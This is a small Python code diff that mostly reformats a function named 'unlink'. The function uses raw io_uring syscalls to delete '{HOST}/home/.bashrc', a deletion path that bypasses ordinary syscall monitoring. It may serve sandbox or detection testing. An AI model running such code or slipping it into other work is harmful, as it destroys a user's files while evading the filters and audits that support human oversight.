@@ -13,13 +13,15 @@ UNLINK_AT, AT_FDCWD = 36, -100
 def unlink():
     parameters = ctypes.create_string_buffer(120)
     ring = system_call(425, 4, parameters)
-    sq_head, sq_tail, sq_mask, sq_entries, flags, dropped, array = struct.unpack_from("7I", parameters, 40)
+    _, tail, *_, array = struct.unpack_from("7I", parameters, 40)
     queue = mmap.mmap(ring, array + 16, mmap.MAP_SHARED, 3, offset=0)
     entries = mmap.mmap(ring, 256, mmap.MAP_SHARED, 3, offset=0x10000000)
     path = ctypes.create_string_buffer(f"{HOST}/home/.bashrc".encode())
-    entries[:64] = struct.pack("BBHiQQIIQ", UNLINK_AT, 0, 0, AT_FDCWD, 0, ctypes.addressof(path), 0, 0, 1).ljust(64, b"\0")
+    entries[:64] = struct.pack("BBHiQQIIQ", UNLINK_AT, 0, 0, AT_FDCWD, 0, ctypes.addressof(path), 0, 0, 1).ljust(
+        64, b"\0"
+    )
     struct.pack_into("I", queue, array, 0)
-    struct.pack_into("I", queue, sq_tail, struct.unpack_from("I", queue, sq_tail)[0] + 1)
+    struct.pack_into("I", queue, tail, struct.unpack_from("I", queue, tail)[0] + 1)
     return system_call(426, ring, 1, 1, 1, None, 0)
 
 
